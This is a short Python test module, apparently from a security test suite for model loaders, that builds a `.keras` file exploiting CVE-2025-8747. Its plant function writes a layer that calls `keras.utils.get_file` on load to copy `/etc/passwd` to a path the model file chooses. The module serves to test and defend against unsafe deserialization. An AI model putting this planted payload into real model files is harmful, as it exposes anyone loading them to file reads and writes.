"""A `.keras` file that calls a function of Keras when it is loaded.

CVE-2025-8747: from Keras 3.9.0 on only functions of Keras could be named, until 3.11.0 all of them, whatever
`safe_mode` is. Here `keras.utils.get_file`, which writes a file where the model file says.
The fix: https://github.com/keras-team/keras/pull/21429.
"""

import tensorflow as tf
from _planted import MARK, add_layers, calling, is_marked

FORMATS = ("keras",)
REQUIRES = "keras>=3"
TAGS = ("executes", "upstream")


def build_model():
    features = tf.keras.Input((4,))
    return tf.keras.Model(features, tf.keras.layers.Dense(2)(features))


def inputs(rng):
    return rng.uniform(size=(3, 4)).astype("float32")


def plant(path):
    given = {"origin": "file:///etc/passwd", "cache_dir": ".", "cache_subdir": ""}
    add_layers(path, calling("planted", "keras.utils", "get_file", MARK, **given))


def executed():
    return is_marked()
